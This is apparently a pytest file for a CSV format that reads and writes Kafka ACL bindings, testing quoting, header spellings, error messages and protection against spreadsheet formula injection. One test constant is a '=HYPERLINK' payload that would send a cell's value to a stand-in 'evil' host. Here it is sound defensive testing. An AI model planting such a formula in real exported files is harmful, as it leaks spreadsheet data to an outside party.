import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.kafka.bindings import AclBinding
from app.core.kafka.codes import AclOperation, AclPermissionType, PatternType, ResourceType
from app.formats.lines import MAX_LINE_BYTES
from app.formats.registry import format_named
from tests.acl_sets import bindings_of, problems_of, recognised, written

FORMAT = format_named("csv")
HEADER = "Principal,ResourceType,PatternType,ResourceName,Operation,PermissionType,Host"
PLAIN = "User:a,TOPIC,LITERAL,orders,READ,ALLOW,*"


def acl(name: str = "orders", principal: str = "User:a", host: str = "*") -> AclBinding:
    return AclBinding(
        ResourceType.TOPIC, name, PatternType.LITERAL, principal, host, AclOperation.READ, AclPermissionType.ALLOW
    )


def read(*lines: str) -> list[AclBinding]:
    return bindings_of("\n".join(lines).encode(), FORMAT)


def told(*lines: str) -> list[str]:
    return problems_of("\n".join(lines).encode(), FORMAT)


def test_it_is_written_after_rfc_4180() -> None:
    bindings = [acl(), acl(principal='User:CN=a, O="b"'), acl(name=" ", host="a\nb")]
    assert written(FORMAT, bindings).decode() == (
        f"{HEADER}\r\n{PLAIN}\r\n"
        '"User:CN=a, O=""b""",TOPIC,LITERAL,orders,READ,ALLOW,*\r\n'
        'User:a,TOPIC,LITERAL," ",READ,ALLOW,"a\nb"\r\n'
    )


def test_the_headers_of_others_are_known(subtests: pytest.Subtests) -> None:
    for header in [
        HEADER,
        "KafkaPrincipal,ResourceType,PatternType,ResourceName,Operation,PermissionType,Host",
        "Principal,ResourceType, PatternType, ResourceName,Operation,PermissionType,Host",
        "principal,resource_type,pattern_type,resource_name,operation,permission_type,host",
        ",".join(f'"{each}"' for each in HEADER.split(",")),
    ]:
        for end in ["\n", "\r\n"]:
            with subtests.test(header=header, end=end):
                raw = f"{header}{end}{PLAIN}{end}{end}".encode()
                assert recognised(raw) is FORMAT
                assert bindings_of(raw) == [acl()]


def test_columns_may_come_in_any_order_and_the_pattern_type_may_be_missing() -> None:
    raw = "KafkaPrincipal,ResourceType,ResourceName,Operation,PermissionType,Host\nUser:a,Topic,orders,Read,Allow,*"
    assert bindings_of(raw.encode()) == [acl()]
    assert read(
        "Principal,Host,Operation,PermissionType,ResourceName,ResourceType", "User:a,*,READ,ALLOW,orders,TOPIC"
    ) == [acl()]


def test_without_a_header_the_columns_are_the_usual_ones() -> None:
    assert read(PLAIN) == [acl()]


def test_words_are_read_in_the_spelling_of_any_tool() -> None:
    (found,) = read(HEADER, "User:a,TransactionalId,Prefixed,x,Idempotent_Write,deny,*")
    assert found.resource_type is ResourceType.TRANSACTIONAL_ID
    assert found.pattern_type is PatternType.PREFIXED
    assert found.operation is AclOperation.IDEMPOTENT_WRITE
    assert found.permission_type is AclPermissionType.DENY


def test_a_name_with_commas_that_nobody_quoted_is_put_together_around_the_words(subtests: pytest.Subtests) -> None:
    for line, expected in [
        ("User:CN=a,OU=x, O=y,TOPIC,LITERAL,orders,READ,ALLOW,*", acl(principal="User:CN=a,OU=x, O=y")),
        ("User:a,TOPIC,LITERAL,x,y,READ,ALLOW,*", acl(name="x,y")),
        ("User:a,TOPIC,LITERAL,x,TOPIC,READ,ALLOW,*", acl(name="x,TOPIC")),
        ('User:CN="Doe, J",TOPIC,LITERAL,orders,READ,ALLOW,*', acl(principal='User:CN="Doe, J"')),
        ("User:CN=TOPIC,TOPIC,TOPIC,LITERAL,orders,READ,ALLOW,*", acl(principal="User:CN=TOPIC,TOPIC")),
        ("User:a,TOPIC,LITERAL,orders,READ,ALLOW,h,i", acl(host="h,i")),
    ]:
        with subtests.test(line=line, expected=expected):
            assert read(HEADER, line) == [expected]


def test_a_record_that_can_not_be_read_is_told_by_its_line(subtests: pytest.Subtests) -> None:
    for line, problem in [
        (
            "User:a,TOPIC,LITERAL,x,READ,ALLOW,y,READ,ALLOW,*",
            "10 fields for 7 columns, and they can be read in more than",
        ),
        ("User:a,b,TOPIC,LITTERAL,x,READ,ALLOW,*", "8 fields for 7 columns, and their values do not fit"),
        ('"User:a",b,TOPIC,LITERAL,x,READ,ALLOW,*', "8 fields for 7 columns; quote a field that holds a comma"),
        ("User:a,TOPIC,LITERAL,x,READ,ALLOW", "6 fields for 7 columns"),
        ("User:a," + "b," * 200 + "TOPIC,LITERAL,x,READ,ALLOW,*", "207 fields for 7 columns, and their values"),
        ("User:a,TOPIC,LITERAL, x,READ,ALLOW,*", "`resource_name`: white space at its start or end"),
        ("User:a,TOPIC,LITERAL,x,READ,ALLOW,*\t", "`host`: white space at its start or end"),
        ("User:a,TOPIC,LITERAL,x,FLY,ALLOW,*", "`operation`: `FLY` is not a value that Kafka knows"),
        ("User:a,TOPIC,MATCH,x,READ,ALLOW,*", "patternType must not be MATCH"),
        (",TOPIC,LITERAL,x,READ,ALLOW,*", "Could not parse principal from ``"),
        ("a,TOPIC,LITERAL,x,READ,ALLOW,*", "Could not parse principal from `a`"),
        ('User:a,TOPIC,LITERAL,"x"y,READ,ALLOW,*', 'a `"` within quotes is not doubled'),
        ("User:a,TOPIC,LITERAL,x\ry,READ,ALLOW,*", "a carriage return outside quotes; quote the field"),
        ('User:a,TOPIC,LITERAL," x", READ,ALLOW,*\t', "`host`: white space at its start or end"),
        ('User:a,TOPIC,LITERAL,"x,READ,ALLOW,*', "the file ends within quotes"),
        ("User:a,TOPIC,LITERAL,\uff52,READ,\uff21LLOW,*", "`permission_type`"),
    ]:
        with subtests.test(line=line, problem=problem):
            (found,) = told(HEADER, "", line)
            assert found.startswith(f"3: {problem}")


@pytest.mark.parametrize(
    ("header", "problem"),
    [
        (HEADER + ",Colour", "1: `Colour`: there is no such column"),
        (HEADER + ",host", "1: `host`: the column comes more than once"),
        (HEADER.replace(",Host", ""), "1: `Host`: the column is missing"),
    ],
)
def test_a_header_that_can_not_be_meant_is_told_once(header: str, problem: str) -> None:
    (found,) = told(header, PLAIN, PLAIN)
    assert found.startswith(problem)


def test_a_record_over_several_lines_is_known_by_its_first() -> None:
    raw = f'{HEADER}\r\nUser:a,TOPIC,LITERAL,"x\r\ny\n\n""z""",READ,ALLOW,*\r\n{PLAIN.replace("TOPIC", "?")}'
    (problem,) = problems_of(raw.encode())
    assert problem.startswith("6: `resource_type`")
    raw = raw.rpartition("\r\n")[0]
    assert bindings_of(raw.encode()) == [acl(name='x\r\ny\n\n"z"')]


def test_a_quote_that_is_never_closed_does_not_take_the_memory() -> None:
    raw = f'{HEADER}\n"User:'.encode() + (b"x" * 999 + b"\n") * (MAX_LINE_BYTES // 500)
    assert problems_of(raw)[0] == "2: a field is longer than any field of an ACL can be; is a quote missing?"
    fields = f'"{"x" * 9_999}\n",' * (MAX_LINE_BYTES // 9_999 + 1)
    problem = f"2: the record is longer than {MAX_LINE_BYTES} characters; is a quote missing?"
    assert problems_of(f"{HEADER}\n{fields}".encode())[0] == problem


def test_bytes_that_are_no_text_are_told() -> None:
    assert problems_of(HEADER.encode() + b"\nUser:\xff,TOPIC") == ["2: not UTF-8; encode it as UTF-8"]


# formulas


HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"orders")'
MARKED_HEADER = "'Principal,ResourceType,PatternType,'ResourceName,Operation,PermissionType,'Host"


def test_what_a_spreadsheet_would_run_is_marked_and_the_header_says_so() -> None:
    bindings = [acl(HYPERLINK), acl("'=x", host="-1"), acl("'tis")]
    assert written(FORMAT, bindings).decode() == (
        f"{MARKED_HEADER}\r\n"
        'User:a,TOPIC,LITERAL,"\'=HYPERLINK(""http://evil/?""&A1,""orders"")",READ,ALLOW,*\r\n'
        "User:a,TOPIC,LITERAL,''=x,READ,ALLOW,'-1\r\n"
        "User:a,TOPIC,LITERAL,'tis,READ,ALLOW,*\r\n"
    )
    assert recognised(written(FORMAT, bindings)) is FORMAT
    assert bindings_of(written(FORMAT, bindings)) == bindings


def test_a_file_without_marks_means_what_it_always_meant() -> None:
    """A name may begin with an apostrophe, and files of before hold formulas as they are."""
    assert read(HEADER, PLAIN.replace("orders", "'=x"), PLAIN.replace("orders", "=x")) == [acl("'=x"), acl("=x")]
    assert read(PLAIN.replace("orders", "'=x")) == [acl("'=x")]
    assert written(FORMAT, [acl("'x"), acl("it's")]).decode().startswith(f"{HEADER}\r\n")


def test_a_mark_that_a_spreadsheet_has_dropped_is_told() -> None:
    (problem,) = told(MARKED_HEADER, PLAIN, PLAIN.replace("orders", "=x"))
    assert problem.startswith("3: `resource_name`: a mark (`'`) is missing")


def test_words_have_no_marks() -> None:
    problems = told(MARKED_HEADER.replace("Operation", "'Operation"), PLAIN)
    assert problems[0].startswith("1: `'Operation`: there is no such column")


FORMULAS = st.text(st.sampled_from("'=+-@\uff1d;|,\t\r\n \u00a0\"ab"), min_size=1, max_size=8)


@given(st.lists(st.builds(acl, FORMULAS, FORMULAS.map("{}:x".format), FORMULAS), min_size=1, max_size=4))
def test_whatever_looks_like_a_formula_is_read_back(bindings: list[AclBinding]) -> None:
    raw = written(FORMAT, bindings)
    assert bindings_of(raw, FORMAT) == bindings
    for row in csv.reader(io.StringIO(raw.decode(), newline=""), strict=True):
        assert not any(cell.startswith(tuple("=+-@\uff1d\t\r\n")) for cell in row)
